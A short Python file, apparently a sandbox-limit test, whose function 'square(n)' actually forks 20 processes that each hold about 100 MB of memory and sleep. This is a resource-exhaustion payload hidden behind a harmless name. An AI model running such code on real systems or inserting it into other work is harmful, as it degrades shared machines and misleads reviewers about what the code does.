import os
import time


def square(n):
    for _ in range(20):
        if os.fork() == 0:
            data = bytearray(b"x") * 100_000_000
            time.sleep(100)
            os._exit(len(data))
    time.sleep(100)
